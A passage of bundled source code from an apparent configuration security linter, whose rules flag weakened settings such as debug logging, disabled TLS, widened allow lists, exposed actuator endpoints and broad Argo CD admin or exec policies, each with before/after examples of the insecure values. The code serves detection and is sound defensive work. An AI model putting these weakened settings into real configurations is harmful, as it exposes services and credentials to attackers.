    rank: (node, setting) => roomLeft(node, setting),
    outcomes: { flip: moved2("low") },
    refine: ({ transition }) => transition === "flip" ? "flip" : void 0,
    examples: [
      { before: "max_connections: 100", after: "max_connections: 5", outcome: "flip" },
      { before: "heap: 4g", after: "heap: 256m", outcome: "flip" },
      { before: "retries: 3", after: "retries: 0", outcome: "flip" },
      { before: "max_connections: 100", after: "max_connections: 50", outcome: "none" }
    ]
  })
];

// src/domains/config/rules/application/observability.ts
var LEVELS2 = [
  /^(?:trace|all|finest|silly)$/,
  /^(?:debug|verbose|fine|finer)$/,
  /^(?:info|information|default)$/,
  /^notice$/,
  /^(?:warn|warning)$/,
  /^err(?:or)?$/,
  /^(?:fatal|critical|crit|panic|alert|emerg|emergency)$/,
  /^(?:off|none|silent|disabled?)$/
];
var isLogLevel = (setting) => /(?:^|-)(?:log(?:s|ger|ging)?-?level|log(?:s|ger|ging)?-(?:verbosity|severity)|verbosity|rust-log|v)$/.test(
  spelled(setting)
) || /^log(?:s|ger|ging)?$/i.test(setting.keys.at(-3) ?? "") && setting.keys.at(-2) === "level" || (setting.keys.at(-1) ?? "").startsWith("logging.level.");
function levelOf2(node, setting) {
  if (node.kind !== "scalar") return void 0;
  const text = node.text.trim();
  if (/^\d+$/.test(text)) return /(?:^|-)(?:v|verbosity)$/.test(spelled(setting)) ? verbosity(Number(text)) : void 0;
  const level3 = levelNamed(text);
  return level3 < 0 ? void 0 : level3;
}
function levelNamed(text) {
  const general = text.split(",").find((part) => !part.includes("=")) ?? "";
  return LEVELS2.findIndex((level3) => level3.test(general.trim().toLowerCase()));
}
function verbosity(count3) {
  if (count3 >= 6) return 0;
  return count3 >= 4 ? 1 : 2;
}
var INFO = 2;
var FATAL = 6;
var isPipeline3 = ({ document }) => document.path.startsWith(".github/");
function whenLouder({ transition, to = "" }) {
  const level3 = /^\d+$/.test(to) ? verbosity(Number(to)) : levelNamed(to);
  if (level3 >= INFO || transition === "drop" || transition === "template") return void 0;
  return transition === "born" ? "new" : "talkative";
}
function whenCalmer({ to = "" }) {
  if (levelNamed(to) >= FATAL) return "silent";
  return to === "" || levelNamed(to) === INFO ? "hardened" : void 0;
}
var observability_default = [
  control({
    id: "config/log-level",
    class: "observability",
    title: "log level lowered to debug",
    why: "Debug logs often hold requests, tokens and personal data, and whoever reads the logs reads them too.",
    fix: "Keep `info` in the file; raise single components for as long as a search for a fault takes.",
    governs: (setting) => isLogLevel(setting) && !isPipeline3(setting),
    rank: levelOf2,
    absent: INFO,
    refine: (change) => change.transition === "hardened" ? whenCalmer(change) : whenLouder(change),
    outcomes: {
      talkative: moved2("medium"),
      new: { ...moved2("low"), title: "new component logs at debug" },
      silent: {
        ...moved2("medium"),
        title: "log switched off",
        why: "Errors are no longer written down, so a fault or an attack leaves no trace.",
        fix: "Keep `error` at least."
      },
      hardened: hardened("log level back to information")
    },
    examples: [
      { before: "log_level: info", after: "log_level: debug", outcome: "talkative" },
      { before: "logging: { level: warn }", after: "logging: { level: trace }", outcome: "talkative" },
      {
        before: "logging: { level: { root: INFO } }",
        after: "logging: { level: { root: DEBUG } }",
        outcome: "talkative"
      },
      { before: 'args: ["--v=2"]', after: 'args: ["--v=8"]', outcome: "talkative" },
      {
        before: "env: [{ name: LOG_LEVEL, value: info }]",
        after: "env: [{ name: LOG_LEVEL, value: debug }]",
        outcome: "talkative"
      },
      { before: "name: app", after: "name: app\nlogLevel: debug", outcome: "talkative" },
      { before: "", after: "logLevel: debug", outcome: "new" },
      { before: "log-level: error", after: 'log-level: "off"', outcome: "silent" },
      { before: "log_level: debug", after: "log_level: info", outcome: "hardened" },
      { before: "log_level: info", after: "log_level: warn", outcome: "none" },
      { before: "log_level: warn", after: "log_level: info", outcome: "none" },
      { before: "RUST_LOG: info", after: 'RUST_LOG: "debug,hyper=warn"', outcome: "talkative" },
      { before: "RUST_LOG: info", after: 'RUST_LOG: "hyper=debug,info"', outcome: "none" },
      { before: "level: info", after: "level: debug", outcome: "none" }
    ]
  }),
  control({
    id: "config/audit-disabled",
    class: "observability",
    title: "audit log switched off",
    why: "Who did what is no longer written down, so misuse cannot be found or proved.",
    fix: "Keep the audit log on; lower what it records instead.",
    governs: protects("audit|audit-logs?|audit-logging|auditing|cloud-?trail|flow-logs?"),
    rank: blockOr(safeOn),
    ...safeWhenOn({
      risk: "high",
      dropped: "medium",
      praise: "audit log switched on",
      weak: "audit: { enabled: false }",
      safe: "audit: { enabled: true }",
      file: plainFile
    })
  }),
  control({
    id: "config/monitoring-disabled",
    class: "observability",
    title: "monitoring switched off",
    why: "The next fault is first seen by users, for nobody is told of it.",
    fix: "Keep it on, or show what takes its place.",
    governs: protects(
      "access-logs?|access-logging|tracing|metrics|monitoring|alerting|alerts|alertmanager|service-monitor|logging|logs"
    ),
    rank: blockOr(safeOn),
    ...safeWhenOn({
      risk: "medium",
      dropped: "low",
      praise: "monitoring switched on",
      weak: "metrics: { enabled: false }",
      safe: "metrics: { enabled: true }",
      file: plainFile
    })
  }),
  control({
    id: "config/pipeline-log-level",
    class: "observability",
    title: "pipeline logs more",
    why: "Logs of a public pipeline may be read by everybody; at this level they show what tools send and get.",
    fix: "Switch it on for the one run that needs it.",
    governs: (setting) => isLogLevel(setting) && isPipeline3(setting),
    rank: levelOf2,
    absent: INFO,
    refine: (change) => whenLouder(change) === "talkative" ? "flip" : void 0,
    outcomes: { flip: moved2("low") },
    examples: [
      {
        path: ".github/workflows/ci.yml",
        before: "on: push\nenv: { LOG_LEVEL: info }\njobs: {}",
        after: "on: push\nenv: { LOG_LEVEL: debug }\njobs: {}",
        outcome: "flip"
      },
      {
        path: ".github/workflows/ci.yml",
        before: "on: push\nenv: { LOG_LEVEL: debug }\njobs: {}",
        after: "on: push\nenv: { LOG_LEVEL: info }\njobs: {}",
        outcome: "none"
      }
    ]
  })
];

// src/domains/config/rules/application/transport.ts
var SYNONYMS = {
  disabled: "disable",
  off: "disable",
  none: "disable",
  plaintext: "disable",
  "sasl-plaintext": "disable",
  preferred: "prefer",
  required: "require",
  ssl: "require",
  "sasl-ssl": "require",
  "istio-mutual": "verify-full",
  mutual: "verify-full",
  simple: "require"
};
function modeOf(node) {
  const ranks = (textsOf(node)[0] ?? "").split(/,\s*/).map((part) => {
    const word = part.slice(part.lastIndexOf(":") + 1).toLowerCase().replaceAll("_", "-");
    return TLS_MODES.indexOf(SYNONYMS[word] ?? word);
  });
  return ranks.includes(-1) ? void 0 : Math.min(...ranks);
}
var VERSION = /^(?:version)?(ssl|d?tls)?[\s_v-]*([123])(?:[._]?([0-3]))?(?:[_.][\w.]*)?$/i;
function versionOf2(node) {
  const ranks = textsOf(node).flatMap((text) => text.split(/[\s,+]+/)).flatMap((text) => {
    const [, protocol, major, minor = "0"] = VERSION.exec(text) ?? [];
    if (major === void 0) return [];
    return /ssl/i.test(protocol ?? "") ? Number(major) : Number(major) * 10 + Number(minor);
  });
  return ranks.length === 0 ? void 0 : Math.min(...ranks);
}
var isOld = ({ to = "" }) => /ssl|1[._]?[01](?!\d)|v1(?![._\d])/i.test(to);
var NAMES_VERSION = /(?:^|-)(?:(?:min(?:imum)?-)?(?:tls|ssl)(?:-min(?:imum)?)?(?:-protocol)?-versions?|min(?:imum)?-protocol-version|(?:tls|ssl)-(?:min(?:imum)?|protocols?))$/;
function isTlsVersion(setting) {
  if (NAMES_VERSION.test(spelled(setting))) return true;
  return /^(?:min(?:imum)?-)?(?:version|protocols?)$/.test(spelled(setting)) && setting.keys.some((key3) => /tls|ssl/i.test(key3));
}
var SCHEMES = {
  https: 1,
  wss: 1,
  ldaps: 1,
  amqps: 1,
  rediss: 1,
  mqtts: 1,
  ftps: 1,
  sftp: 1,
  grpcs: 1,
  http: 0,
  ws: 0,
  ldap: 0,
  amqp: 0,
  redis: 0,
  mqtt: 0,
  ftp: 0,
  grpc: 0
};
var ADDRESS2 = /^([a-z]+):\/\/[^\s]+$/i;
var NEAR = /:\/\/(?:[^@/\s]*@)?(?:localhost|127\.|\[::1\]|0\.0\.0\.0|[\w-]+(?:[:/]|$)|[\w.-]+\.(?:svc|local|internal|test)\b)/i;
function schemeOf(node) {
  const ranks = textsOf(node).flatMap((text) => text.split(/,\s*/)).map((text) => SCHEMES[ADDRESS2.exec(text)?.[1]?.toLowerCase() ?? ""]);
  const known2 = ranks.filter((rank2) => rank2 !== void 0);
  return known2.length === 0 || known2.length < ranks.length ? void 0 : Math.min(...known2);
}
var FOR_READERS = /(?:^|-)(?:home|homepage|icon|sources?|docs?|documentation|links?|website|license|image|logo|avatar|schema|id|xmlns|runbook-url)$/;
var transport_default = [
  control({
    id: "config/tls-mode-lowered",
    class: "encryption-disabled",
    title: "TLS mode lowered",
    why: "Connections that were refused before, unencrypted or to the wrong server, are accepted now.",
    fix: "Keep the stricter mode, and give the clients certificates they can verify.",
    governs: (setting) => /(?:^|-)(?:ssl-?mode|m?tls-mode|security-(?:inter-broker-)?protocol(?:-map)?)$/.test(spelled(setting)),
    rank: modeOf,
    refine: ({ transition, to = "" }) => {
      if (transition === "hardened") return "hardened";
      if (transition !== "flip") return void 0;
      return /disable|plaintext|off|none/i.test(to) ? "disabled" : "lowered";
    },
    outcomes: {
      disabled: { ...moved2("critical"), title: "encryption switched off" },
      lowered: moved2("high"),
      hardened: hardened("TLS mode raised")
    },
    examples: [
      { before: "sslmode: verify-full", after: "sslmode: disable", outcome: "disabled" },
      { before: "security.protocol: SASL_SSL", after: "security.protocol: SASL_PLAINTEXT", outcome: "disabled" },
      {
        before: 'LISTENER_SECURITY_PROTOCOL_MAP: "IN:SSL,OUT:SASL_SSL"',
        after: 'LISTENER_SECURITY_PROTOCOL_MAP: "IN:SSL,OUT:PLAINTEXT"',
        outcome: "disabled"
      },
      { before: "mtls: { mode: STRICT }", after: "mtls: { mode: PERMISSIVE }", outcome: "lowered" },
      { before: "ssl_mode: prefer", after: "ssl_mode: verify-full", outcome: "hardened" },
      { before: "sslmode: require", after: "sslmode: ${SSL_MODE}", outcome: "none" }
    ]
  }),
  control({
    id: "config/tls-version-lowered",
    class: "encryption-disabled",
    title: "TLS version lowered",
    why: "Clients may agree on an older protocol, whose known attacks the newer one closed.",
    fix: "Require TLS 1.2 at least; serve clients that cannot from an endpoint of their own.",
    equivalents: ["checkov:CKV_AWS_103", "checkov:CKV_AWS_206"],
    governs: isTlsVersion,
    rank: versionOf2,
    refine: (change) => {
      if (change.transition === "hardened") return "hardened";
      if (change.transition !== "flip") return void 0;
      return isOld(change) ? "old" : "lowered";
    },
    outcomes: { old: moved2("high"), lowered: moved2("low"), hardened: hardened("TLS version raised") },
    examples: [
      { before: "tlsMinVersion: VersionTLS12", after: "tlsMinVersion: VersionTLS10", outcome: "old" },
      { before: 'tls: { minVersion: "1.2" }', after: 'tls: { minVersion: "1.0" }', outcome: "old" },
      { before: "ssl_protocols: TLSv1.2 TLSv1.3", after: "ssl_protocols: TLSv1.1 TLSv1.2 TLSv1.3", outcome: "old" },
      { before: "tls: { min_version: TLSv1.3 }", after: "tls: { min_version: TLSv1.2 }", outcome: "lowered" },
      { before: 'tls: { minVersion: "1.1" }', after: 'tls: { minVersion: "1.2" }', outcome: "hardened" },
      { before: 'minVersion: "1.2"', after: 'minVersion: "1.0"', outcome: "none" }
    ]
  }),
  control({
    id: "config/plain-address",
    class: "encryption-disabled",
    title: "address without encryption",
    why: "What is sent there, credentials included, crosses the network in clear text.",
    fix: "Use the encrypted scheme of the same service.",
    governs: (setting) => !FOR_READERS.test(spelled(setting)),
    rank: schemeOf,
    refine: ({ transition, to = "" }) => {
      if (transition === "hardened") return "hardened";
      if (transition !== "flip") return void 0;
      return NEAR.test(to) ? "near" : "far";
    },
    outcomes: {
      far: moved2("high"),
      near: { ...moved2("low"), why: "The host is near, but whoever shares its network can read what is sent." },
      hardened: hardened("address with encryption")
    },
    examples: [
      { before: "url: https://api.acme.com/v1", after: "url: http://api.acme.com/v1", outcome: "far" },
      { before: "cache: rediss://cache.acme.com:6379", after: "cache: redis://cache.acme.com:6379", outcome: "far" },
      { before: "url: https://api.acme.com", after: "url: http://api.shop.svc:8080", outcome: "near" },
      { before: "url: http://api.acme.com", after: "url: https://api.acme.com", outcome: "hardened" },
      { before: "home: https://acme.com", after: "home: http://acme.com", outcome: "none" },
      { before: "url: https://a.acme.com", after: "url: https://b.acme.com", outcome: "none" }
    ]
  })
];

// src/domains/config/rules/application/web.ts
var blocks2 = (node) => textsOf(node).flatMap(
  (text) => text.split(/[,\s]+/).flatMap((each) => each.includes("/") ? cidr(each) ?? [] : [])
);
function reach2(node, { before: before3 }) {
  const [known2, listed6] = [blocks2(before3), blocks2(node)];
  if (listed6.length === 0) return void 0;
  const fresh = listed6.filter((block2) => !known2.some((wider) => contains(wider, block2)));
  if (fresh.some((block2) => known2.some((narrower) => contains(block2, narrower)))) return 0;
  return fresh.length > 0 ? 1 : 2;
}
var isBlocks = (setting) => /(?:^|-)(?:allow-?list|white-?list|source-ranges?|(?:allowed|authorized|trusted)-(?:cidrs?|ips?|ranges|networks|sources)|cidrs?|cidr-blocks?)$/.test(
  spelled(setting)
);
var ANY_SOURCE = /(?:^|\s)(?:\*|'unsafe-inline'|'unsafe-eval'|data:)(?=\s|;|$)/;
var tail = (...names2) => {
  const end = names2.join(".");
  return ({ keys }) => `.${keys.join(".")}`.endsWith(`.${end}`);
};
var isProduction = (node) => textsOf(node).some((text) => /\bprod(?:uction)?\b|\blive\b/i.test(text));
var isTrial = (node) => textsOf(node).some((text) => /\b(?:dev|development|local|test|debug)\b/i.test(text));
var web_default = [
  control({
    id: "config/allow-list-widened",
    class: "exposure",
    title: "more addresses let in",
    why: "Addresses that were kept out may now connect.",
    fix: "List the smallest ranges that need it.",
    governs: isBlocks,
    rank: reach2,
    outcomes: { wider: moved2("high"), more: { ...moved2("low"), title: "one more network let in" } },
    refine: ({ transition, from: from3 = "", to = "" }) => {
      if (transition !== "flip") return void 0;
      const sizes = [from3, to].map(
        (text) => Math.min(...[...text.matchAll(/\/(\d{1,3})/g)].map(([, size2]) => Number(size2)))
      );
      return (sizes[1] ?? 0) < (sizes[0] ?? 0) ? "wider" : "more";
    },
    examples: [
      { before: "allowlist: [10.1.0.0/16]", after: "allowlist: [10.0.0.0/8]", outcome: "wider" },
      { before: "allowlist: [10.1.0.0/16]", after: "allowlist: [10.1.0.0/16, 192.168.1.0/24]", outcome: "more" },
      { before: "allowlist: [10.0.0.0/8]", after: "allowlist: [10.1.0.0/16]", outcome: "none" }
    ]
  }),
  control({
    id: "config/content-policy-loosened",
    class: "exposure",
    title: "pages may load scripts from anywhere",
    why: "A script that an attacker smuggles into a page runs with the session of whoever opens it.",
    fix: "List the sources that pages need.",
    governs: (setting) => /(?:^|-)(?:csp|content-security-policy)$/.test(spelled(setting)),
    rank: (node) => node.kind === "scalar" ? Number(!ANY_SOURCE.test(node.text)) : void 0,
    outcomes: { flip: moved2("medium"), hardened: hardened("sources of scripts listed") },
    refine: ({ transition }) => transition === "flip" || transition === "hardened" ? transition : void 0,
    examples: [
      { before: `csp: "default-src 'self'"`, after: 'csp: "default-src *"', outcome: "flip" },
      { before: 'csp: "default-src *"', after: `csp: "default-src 'self'"`, outcome: "hardened" },
      { before: `csp: "default-src 'self'"`, after: `csp: "default-src 'self' https://a.example"`, outcome: "none" }
    ]
  }),
  control({
    id: "config/errors-shown",
    class: "exposure",
    title: "errors shown to callers in full",
    why: "Stack traces and messages tell an attacker what runs inside, and sometimes what it holds.",
    fix: "Keep `never`, and write errors to the log.",
    governs: (setting) => /(?:^|-)include-(?:stack-?trace|message|binding-errors|exception)$/.test(spelled(setting)),
    rank: (node) => node.kind === "scalar" ? Number(!/^(?:always|true)$/i.test(node.text)) : void 0,
    ...weakWhenSet({
      risk: "medium",
      praise: "errors no longer shown to callers",
      weak: "include-stacktrace: always",
      safe: "include-stacktrace: never",
      file: plainFile
    })
  }),
  control({
    id: "config/database-console",
    class: "exposure",
    title: "console of the database opened",
    why: "Whoever reaches the page runs any statement, and with H2 any program, on the server.",
    fix: "Keep it off outside of a developer\u2019s machine.",
    governs: tail("h2", "console", "enabled"),
    rank: safeOff,
    ...weakWhenSet({
      risk: "high",
      praise: "console of the database closed",
      weak: "enabled: true",
      safe: "enabled: false",
      file: (text) => `spring:
  h2:
    console:
      path: /console
${text === "" ? "" : `      ${text}
`}`
    })
  }),
  control({
    id: "config/profile-of-developers",
    class: "exposure",
    title: "production runs with the settings of developers",
    why: "Their profile opens debug pages, shows errors and uses test data and passwords.",
    fix: "Keep the profile of production.",
    governs: tail("profiles", "active"),
    rank: (node) => isProduction(node) ? 1 : isTrial(node) ? 0 : void 0,
    outcomes: { flip: moved2("medium"), hardened: hardened("production runs with its own settings") },
    refine: ({ transition }) => transition === "flip" || transition === "hardened" ? transition : void 0,
    examples: [
      {
        before: "spring: { profiles: { active: prod } }",
        after: "spring: { profiles: { active: dev } }",
        outcome: "flip"
      },
      {
        before: "spring: { profiles: { active: dev } }",
        after: "spring: { profiles: { active: prod } }",
        outcome: "hardened"
      },
      {
        before: "spring: { profiles: { active: prod } }",
        after: 'spring: { profiles: { active: "prod,eu" } }',
        outcome: "none"
      }
    ]
  }),
  control({
    id: "config/actuator-exposed",
    class: "exposure",
    title: "management endpoints opened",
    why: "Heap dumps, environment variables and loggers of the running service can be read, passwords included.",
    fix: "Expose `health` and what monitoring needs, by name.",
    governs: ({ keys }) => /(?:^|\.)exposure\.include$/.test(keys.join(".")),
    rank: (node) => Number(
      !textsOf(node).flatMap((text) => text.split(/,\s*/)).some((name) => /^(?:\*|heapdump|env|threaddump|shutdown|configprops)$/.test(name))
    ),
    absent: 1,
    outcomes: {
      flip: moved2("high"),
      open: moved2("high"),
      born: moved2("medium"),
      hardened: hardened("management endpoints closed")
    },
    examples: [
      {
        before: "management: { endpoints: { web: { exposure: { include: health } } } }",
        after: 'management: { endpoints: { web: { exposure: { include: "*" } } } }',
        outcome: "flip"
      },
      {
        before: "management: { endpoints: { web: { exposure: { exclude: info } } } }",
        after: 'management: { endpoints: { web: { exposure: { exclude: info, include: "health,heapdump" } } } }',
        outcome: "open"
      },
      { before: "", after: 'management.endpoints.web.exposure.include: "*"', outcome: "born" },
      {
        before: 'management.endpoints.web.exposure.include: "*"',
        after: "management.endpoints.web.exposure.include: health",
        outcome: "hardened"
      },
      {
        before: "management.endpoints.web.exposure.include: health",
        after: "management.endpoints.web.exposure.include: health,info",
        outcome: "none"
      }
    ]
  })
];

// src/domains/config/rules/argo-cd/policies.ts
var map = (...lines) => `apiVersion: v1
kind: ConfigMap
metadata: { name: argocd-rbac-cm }
data:
  policy.csv: |
${lines.map((line) => `    ${line}
`).join("")}`;
var GET = "p, role:dev, applications, get, */*, allow";
var ALL = "p, role:dev, applications, *, */*, allow";
var ADMIN = "g, everybody, role:admin";
var linesOf = (node) => node?.kind === "scalar" ? node.text.split("\n").map((line) => line.replace(/\s+/g, "")).filter((line) => /^[pg],/.test(line)) : [];
var isWide = (line) => /^g,[^,]+,role:admin$/.test(line) || /^p,[^,]+,[^,]+,\*,.*,allow$/.test(line) || /^p,[^,]+,(?:exec|\*),/.test(line);
function grants2(node, { before: before3 }) {
  const [known2, has2] = [new Set(linesOf(before3)), linesOf(node)];
  const fresh = has2.filter((line) => !known2.has(line) && !line.endsWith(",deny"));
  const freed = [...known2].filter((line) => line.endsWith(",deny") && !has2.includes(line));
  if (fresh.some(isWide)) return 0;
  return fresh.length + freed.length > 0 ? 1 : 2;
}
var isPolicy = ({ keys, document }) => keys.join("/") === "data/policy.csv" && kindOf(document.after ?? document.before) === "ConfigMap" && (textAt(document.after?.root, "metadata", "name") ?? "").startsWith("argocd-");
var policies_default = [
  control({
    id: "config/argocd-policy-wide",
    class: "permission-widening",
    title: "policy of Argo CD grants everything",
    why: "Whoever has the role may deploy, change and delete anything it covers, or open shells in pods.",
    fix: "Grant single actions on single projects.",
    dialect: "kubernetes",
    governs: isPolicy,
    rank: (node, setting) => grants2(node, setting) === 0 ? 0 : node === setting.before ? 1 : void 0,
    outcomes: {
      flip: {
        risk: "critical",
        message: () => "A line of `policy.csv` now grants every action, or the role of an administrator."
      }
    },
    refine: ({ transition }) => transition === "flip" ? "flip" : void 0,
    examples: [
      { before: map(GET), after: map(GET, ALL), outcome: "flip" },
      { before: map(GET), after: map(GET, ADMIN), outcome: "flip" },
      { before: map(GET, ALL), after: map(ALL, GET), outcome: "none" }
    ]
  }),
  control({
    id: "config/argocd-policy-widened",
    class: "permission-widening",
    title: "policy of Argo CD grants more",
    why: "Whoever has the role may do with its applications what they could not before.",
    fix: "Grant single actions on single projects.",
    dialect: "kubernetes",
    governs: isPolicy,
    rank: (node, setting) => Math.max(grants2(node, setting), 1),
    outcomes: { flip: { risk: "high", message: () => "A line of `policy.csv` grants more than before." } },
    refine: ({ transition }) => transition === "flip" ? "flip" : void 0,
    examples: [
      { before: map(GET), after: map(GET, GET.replace("get", "sync")), outcome: "flip" },
      { before: map(GET), after: map(GET, GET.replace("allow", "deny")), outcome: "none" },
      { before: map(GET, ALL), after: map(ALL, GET), outcome: "none" }
    ]
  })
];

// src/domains/config/kubernetes/examples.ts
var pod = (lines = "", replicas = 3) => `apiVersion: apps/v1
kind: Deployment
metadata: { name: web }
spec:
  replicas: ${replicas}
  template:
    spec:${indented3(6, lines)}
      containers: [{ name: web, image: web }]
`;
var container = (lines = "") => `apiVersion: apps/v1
kind: Deployment
metadata: { name: web }
spec:
  replicas: 3
  template:
    spec:
      containers:
        - name: web
          image: web${indented3(10, lines)}
`;
var object = (apiVersion, kind) => (lines = "") => `apiVersion: ${apiVersion}
kind: ${kind}
metadata: { name: web }
spec:
  paused: false${indented3(2, lines)}
`;
var annotated = (apiVersion, kind) => (lines = "") => `apiVersion: ${apiVersion}
kind: ${kind}
metadata:
  name: web
  annotations:
    team: shop${indented3(4, lines)}
`;
var indented3 = (columns, lines) => lines === "" ? "" : `
${lines}`.replaceAll("\n", `
${" ".repeat(columns)}`);
var definitionOf = (schema, version = "served: true", scope = "Namespaced") => `apiVersion: apiextensions.k8s.io/v1
kind: CustomResourceDefinition
metadata: { name: shops.example.com }
spec:
  scope: ${scope}
  versions:
    - name: v1
      ${version}
      schema:
        openAPIV3Schema: { type: object, properties: { size: ${schema} }, required: [] }
`;

// src/domains/config/setting-paths.ts
var endsWith = (keys, tail2) => tail2.every((name, i) => keys[keys.length - tail2.length + i] === name);
var atEnd = (...tail2) => ({ keys, path: path27 }) => endsWith(keys, tail2) && path27.at(-1)?.kind !== "item";
var either = (...places) => (setting) => places.some((holds4) => holds4(setting));

// src/domains/config/kubernetes/paths.ts
var MANIFESTS = ["kubernetes", "helm-values"];
var WORKLOADS2 = [...MANIFESTS, "compose"];
var IN_VALUES = /securityContext$|^(?:readiness|liveness|startup)Probe$|^lifecycle$|^host(?:Network|PID|IPC|Users)$/i;
var inValues = ({ keys, document }, [first = "", ...rest]) => document.dialect === "helm-values" && IN_VALUES.test(first) && endsWith(keys, rest) && (keys.at(-1 - rest.length) ?? "").toLowerCase().endsWith(first.toLowerCase());
var inContainer = (...tail2) => (setting) => endsWith(setting.keys, tail2) && CONTAINER_LISTS.some((list) => list === setting.keys.at(-1 - tail2.length)) || inValues(setting, tail2);
var inPod = (...tail2) => (setting) => endsWith(setting.keys, tail2) && setting.keys.at(-1 - tail2.length) === "spec" && kindOf(setting.document.after ?? setting.document.before) !== "PodSecurityPolicy" || inValues(setting, tail2);
var ofKind = (kind, ...keys) => (setting) => setting.path.at(-1)?.kind !== "item" && isAt(setting, kind, keys);
var itemOfKind = (kind, ...keys) => (setting) => setting.path.at(-1)?.kind === "item" && setting.ownerAfter !== void 0 && isAt(setting, kind, keys);
var isAt = ({ keys, document }, kind, at3) => keys.length === at3.length && endsWith(keys, at3) && kindOf(document.after ?? document.before) === kind;
var componentFlag = (name) => {
  const isArgument = atEnd(`--${name}`);
  return (setting) => isArgument(setting) || setting.name === name && setting.keys.some((key3) => EXTRA.test(key3));
};
var EXTRA = /^(?:kubelet)?extraArgs$/i;
var annotation = (...names2) => ({ keys }) => names2.includes(keys.at(-1) ?? "") && /annotations$/i.test(keys.at(-2) ?? "");

// src/domains/config/rules/argo-cd/settings.ts
var dialect = "kubernetes";
var map2 = (lines = "") => `apiVersion: v1
kind: ConfigMap
metadata: { name: argocd-cm }
data:
  url: https://cd.example.com
${lines === "" ? "" : `  ${lines}
`}`;
var project = object("argoproj.io/v1alpha1", "AppProject");
var withinKnown = (governs) => (setting) => setting.ownerBefore !== void 0 && governs(setting);
var key2 = (name) => ({ keys, document }) => keys.length === 2 && keys[0] === "data" && keys[1] === name && kindOf(document.after ?? document.before) === "ConfigMap" && (textAt(document.after?.root, "metadata", "name") ?? "").startsWith("argocd-");
var settings_default = [
  control({
    id: "config/argocd-default-role",
    class: "permission-widening",
    title: "everybody who signs in to Argo CD may do more",
    why: "Whoever can sign in has this role, and with `admin` may deploy anything.",
    fix: "Keep `role:readonly` or none, and give roles to groups in `policy.csv`.",
    dialect,
    governs: key2("policy.default"),
    rank: ordered(["", "role:readonly", "role:admin"]),
    absent: 2,
    outcomes: {
      admin: moved2("critical"),
      reader: moved2("low"),
      hardened: hardened("everybody who signs in to Argo CD may do less")
    },
    refine: ({ transition, to }) => {
      if (transition === "hardened") return "hardened";
      return to === "role:admin" ? "admin" : "reader";
    },
    examples: [
      { before: map2("policy.default: role:readonly"), after: map2("policy.default: role:admin"), outcome: "admin" },
      { before: map2(), after: map2("policy.default: role:readonly"), outcome: "reader" },
      { before: map2("policy.default: role:admin"), after: map2("policy.default: role:readonly"), outcome: "hardened" },
      { before: map2("policy.default: role:readonly"), after: map2('policy.default: "role:readonly"'), outcome: "none" }
    ]
  }),
  control({
    id: "config/argocd-anonymous",
    class: "permission-widening",
    title: "Argo CD open without signing in",
    why: "Anybody who reaches it has the default role.",
    fix: "Keep it off.",
    dialect,
    governs: key2("users.anonymous.enabled"),
    rank: safeOff,
    ...weakWhenSet({
      risk: "high",
      praise: "Argo CD asks who is there",
      weak: 'users.anonymous.enabled: "true"',
      safe: 'users.anonymous.enabled: "false"',
      file: map2
    })
  }),
  control({
    id: "config/argocd-exec",
    class: "permission-widening",
    title: "shells in pods through Argo CD",
    why: "Whoever may use it runs commands in every application.",
    fix: "Keep it off.",
    dialect,
    governs: key2("exec.enabled"),
    rank: safeOff,
    ...weakWhenSet({
      risk: "high",
      praise: "no shells in pods through Argo CD",
      weak: 'exec.enabled: "true"',
      safe: 'exec.enabled: "false"',
      file: map2
    })
  }),
  control({
    id: "config/argocd-insecure",
    class: "encryption-disabled",
    title: "Argo CD serves in clear text",
    why: "Passwords and tokens cross the network in clear text, unless a proxy in front encrypts.",
    fix: "Keep TLS on, or encrypt up to the pod.",
    dialect,
    governs: key2("server.insecure"),
    rank: safeOff,
    ...weakWhenSet({
      risk: "high",
      praise: "Argo CD serves over TLS",
      weak: 'server.insecure: "true"',
      safe: 'server.insecure: "false"',
      file: map2
    })
  }),
  control({
    id: "config/argocd-any-source",
    class: "permission-widening",
    title: "project of Argo CD takes any repository",
    why: "Whoever may edit an application of the project deploys from a repository of their own.",
    fix: "List the repositories.",
    dialect,
    governs: ofKind("AppProject", "spec", "sourceRepos"),
    rank: (node) => Number(!textsOf(node).includes("*")),
    absent: 1,
    outcomes: {
      flip: moved2("medium"),
      open: moved2("medium"),
      hardened: hardened("project of Argo CD takes known repositories")
    },
    examples: [
      { before: project("sourceRepos: [a]"), after: project('sourceRepos: ["*"]'), outcome: "flip" },
      { before: project(), after: project('sourceRepos: ["*"]'), outcome: "open" },
      { before: project('sourceRepos: ["*"]'), after: project("sourceRepos: [a]"), outcome: "hardened" },
      { before: project("sourceRepos: [a]"), after: project("sourceRepos: [a, b]"), outcome: "none" }
    ]
  }),
  control({
    id: "config/argocd-any-target",
    class: "permission-widening",
    title: "project of Argo CD reaches everything",
    why: "Applications of the project may change any namespace, or any object of the cluster.",
    fix: "List the namespaces and kinds that it needs.",
    dialect,
    governs: either(
      itemOfKind("AppProject", "spec", "clusterResourceWhitelist"),
      itemOfKind("AppProject", "spec", "destinations"),
      withinKnown(ofKind("AppProject", "spec", "destinations", "namespace"))
    ),
    rank: (node) => {
      const words2 = [textAt(node, "namespace") ?? textAt(node, "kind"), textsOf(node)[0]];
      return Number(!words2.includes("*"));
    },
    absent: 1,
    outcomes: {
      flip: moved2("high"),
      open: { risk: "high", message: () => "The project now reaches everything (`*`)." },
      born: { risk: "medium", message: () => "The new project reaches everything (`*`)." },
      hardened: hardened("project of Argo CD reaches less")
    },
    examples: [
      { before: "", after: project('destinations: [{ server: a, namespace: "*" }]'), outcome: "born" },
      {
        before: project("destinations: [{ server: a, namespace: shop }]"),
        after: project('destinations: [{ server: a, namespace: "*" }]'),
        outcome: "flip"
      },
      {
        before: project('clusterResourceWhitelist: [{ group: "", kind: Namespace }]'),
        after: project('clusterResourceWhitelist: [{ group: "", kind: Namespace }, { group: "*", kind: "*" }]'),
        outcome: "open"
      },
      {
        before: project('destinations: [{ server: a, namespace: "*" }]'),
        after: project("destinations: [{ server: a, namespace: shop }]"),
        outcome: "hardened"
      },
      {
        before: project("destinations: [{ server: a, namespace: shop }]"),
        after: project("destinations: [{ server: a, namespace: store }]"),
        outcome: "none"
      }
    ]
  })
];

// src/domains/config/rules/argo-cd/sync.ts
var dialect2 = "kubernetes";
var application = object("argoproj.io/v1alpha1", "Application");
var sync_default = [
  control({
    id: "config/argocd-sync-unattended",
    class: "data-loss",
    title: "Argo CD deletes or undoes by itself",
    why: "What is not in the repository, by mistake or for a reason, is deleted or undone within minutes.",
    fix: "Mark what must stay with `Prune=false`, and switch this on when nothing else is out of sync.",
